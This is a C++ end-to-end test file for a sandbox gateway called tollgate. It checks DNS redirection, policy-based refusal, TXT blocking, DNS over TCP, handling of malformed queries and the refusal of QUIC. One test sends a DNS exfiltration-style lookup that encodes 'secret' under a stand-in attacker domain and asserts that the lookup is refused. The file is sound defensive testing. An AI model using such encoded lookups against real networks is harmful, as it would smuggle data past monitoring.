// End-to-end: sandbox DNS goes to tollgate's DNS service whatever resolver
// the sandbox names, and only names policy could allow get answers.
#include <gtest/gtest.h>

#include "scenario.h"

namespace tollgate::e2e {
namespace {
using namespace std::chrono_literals;

// A resolver address with no server behind it: only the redirect can answer.
constexpr const char* kSandboxResolver = "192.0.2.99";

// A raw DNS client in the sandbox: prints rcode and addresses. Args: name
// qtype(1|28) proto(udp|tcp) [raw hex payload instead of a query].
constexpr const char* kDnsClient = R"(
import socket, struct, sys, random
name, qtype, proto = sys.argv[1], int(sys.argv[2]), sys.argv[3]
if len(sys.argv) > 4:
    msg = bytes.fromhex(sys.argv[4])
else:
    qid = random.randrange(65536)
    q = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    msg = struct.pack('!HHHHHH', qid, 0x0100, 1, 0, 0, 0) + q + struct.pack('!HH', qtype, 1)
if proto == 'udp':
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(msg, ('192.0.2.99', 53)); r, src = s.recvfrom(4096)
    print('from', src[0])
else:
    s = socket.create_connection(('192.0.2.99', 53), timeout=3)
    s.sendall(struct.pack('!H', len(msg)) + msg)
    n = struct.unpack('!H', s.recv(2))[0]; r = b''
    while len(r) < n: r += s.recv(n - len(r))
rcode = r[3] & 15; qd, an = struct.unpack('!HH', r[4:8])
print('rcode', rcode, 'answers', an)
i = 12
for _ in range(qd):
    while r[i]: i += 1 + r[i]
    i += 5
for _ in range(an):
    i += 2; t, c, ttl, l = struct.unpack('!HHIH', r[i:i+10]); i += 10
    print('addr', socket.inet_ntop(socket.AF_INET if t == 1 else socket.AF_INET6, r[i:i+l])); i += l
)";

class DnsTest : public testing::Test {
 protected:
  void SetUp() override {
    s_ = std::make_unique<Scenario>(Scenario::Options{});
    ASSERT_TRUE(s_->topo().setEtcFile(s_->sandbox(), "resolv.conf",
                                      std::string("nameserver ") + kSandboxResolver + "\n")
                    .ok());
  }
  harness::CommandResult query(const std::string& name, int qtype = 1,
                               const std::string& proto = "udp", const std::string& raw = "") {
    std::vector<std::string> argv = {"python3", "-c", kDnsClient, name, std::to_string(qtype),
                                     proto};
    if (!raw.empty()) {
      argv.push_back(raw);
    }
    return s_->inSandbox(argv, 10s);
  }
  std::unique_ptr<Scenario> s_;
};

TEST_F(DnsTest, AllowedStaticNameIsAnsweredFromTheQueriedAddress) {
  auto r = query("static.example.test");
  ASSERT_EQ(r.exit_code, 0) << r.err << s_->gatewayStderr();
  EXPECT_NE(r.out.find("from 192.0.2.99"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("rcode 0 answers 1"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("addr 198.51.100.10"), std::string::npos) << r.out;
  auto v6 = query("static.example.test", 28);
  EXPECT_NE(v6.out.find("addr 2001:db8:100::10"), std::string::npos) << v6.out << v6.err;
  auto rec = s_->auditWhere("host", "static.example.test");
  ASSERT_FALSE(rec.is_null());
  EXPECT_EQ(rec["event"], "dns");
  EXPECT_EQ(rec["action"], "passthrough");
}

TEST_F(DnsTest, AllowedNameIsForwardedToTheResolvers) {
  auto r = query("dns.example.test");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("addr 198.51.100.10"), std::string::npos) << r.out;
  // And the system resolver of the sandbox (glibc) works through it too.
  auto g = s_->inSandbox({"getent", "ahostsv4", "dns.example.test"}, 10s);
  EXPECT_EQ(g.exit_code, 0) << g.err;
  EXPECT_NE(g.out.find("198.51.100.10"), std::string::npos) << g.out;
  // The answer feeds the connection: the flow to that name goes where the
  // sandbox was told, without a second lookup.
  auto c = s_->curl({"https://dns.example.test/"});
  EXPECT_EQ(c.exit_code, 0) << c.err;
  auto st = harness::runCommand("", {TOLLGATE_BINARY, "status", "--config", s_->configPath()}, 10s);
  ASSERT_EQ(st.exit_code, 0) << st.err;
  EXPECT_GE(nlohmann::json::parse(st.out)["counters"]["resolved_from_dns_answers"].get<int>(), 1)
      << st.out;
}

TEST_F(DnsTest, NamesPolicyCannotAllowAreRefusedSoLookupsCannotExfiltrate) {
  auto r = query("c2VjcmV0.exfil.attacker.test");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("rcode 5 answers 0"), std::string::npos) << r.out;  // REFUSED
  auto rec = s_->auditWhere("host", "c2vjcmv0.exfil.attacker.test");
  ASSERT_FALSE(rec.is_null());
  EXPECT_EQ(rec["event"], "dns");
  EXPECT_EQ(rec["action"], "deny");
  EXPECT_EQ(rec["reason"], "dns_policy");
  // Wildcard rules allow names below them.
  auto w = query("x.wild.example.test");
  EXPECT_NE(w.out.find("rcode 0 answers 1"), std::string::npos) << w.out;
  // TXT is never served, even for an allowed name.
  auto txt = query("api.example.test", 16);
  EXPECT_NE(txt.out.find("rcode 0 answers 0"), std::string::npos) << txt.out;
}

TEST_F(DnsTest, DnsOverTcpIsGovernedTheSameWay) {
  auto ok = query("static.example.test", 1, "tcp");
  ASSERT_EQ(ok.exit_code, 0) << ok.err;
  EXPECT_NE(ok.out.find("addr 198.51.100.10"), std::string::npos) << ok.out;
  auto refused = query("exfil.attacker.test", 1, "tcp");
  EXPECT_NE(refused.out.find("rcode 5"), std::string::npos) << refused.out;
}

TEST_F(DnsTest, MalformedQueriesGetFormerrAndTheServiceKeepsAnswering) {
  // Two questions in one query (QDCOUNT 2): FORMERR.
  auto bad = query("x", 1, "udp", "abcd01000002000000000000");
  ASSERT_EQ(bad.exit_code, 0) << bad.err;
  EXPECT_NE(bad.out.find("rcode 1"), std::string::npos) << bad.out;
  // Garbage shorter than a header: dropped (no answer, the client times out).
  auto junk = query("x", 1, "udp", "ff");
  EXPECT_NE(junk.exit_code, 0);
  auto ok = query("static.example.test");
  EXPECT_NE(ok.out.find("addr 198.51.100.10"), std::string::npos) << ok.out;
}

TEST_F(DnsTest, NameResolvingIntoDenyCidrsGetsNoAddresses) {
  auto r = query("meta.example.test");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("rcode 0 answers 0"), std::string::npos) << r.out;
}

}  // namespace
}  // namespace tollgate::e2e

namespace tollgate::e2e {
namespace {

// QUIC is refused with ICMP port unreachable at once, so HTTP/3 clients fall
// back to TCP (which is governed) instead of waiting for a timeout.
TEST(UdpTest, QuicIsRefusedAtOnceAndOtherUdpGoesNowhere) {
  Scenario s(Scenario::Options{});
  auto r = s.inSandbox({"python3", "-c",
                        "import socket,time\n"
                        "for dst,port in (('198.51.100.10',443),('198.51.100.10',8443)):\n"
                        "  u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); u.settimeout(1)\n"
                        "  u.connect((dst,port)); t=time.time(); u.send(b'\\x00'*32)\n"
                        "  try:\n"
                        "    u.recv(100); print(port,'answered')\n"
                        "  except ConnectionRefusedError:\n"
                        "    print(port,'refused %.2f' % (time.time()-t))\n"
                        "  except socket.timeout:\n"
                        "    print(port,'timeout')\n"},
                       20s);
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("443 refused 0."), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("8443 timeout"), std::string::npos) << r.out;
}

}  // namespace
}  // namespace tollgate::e2e
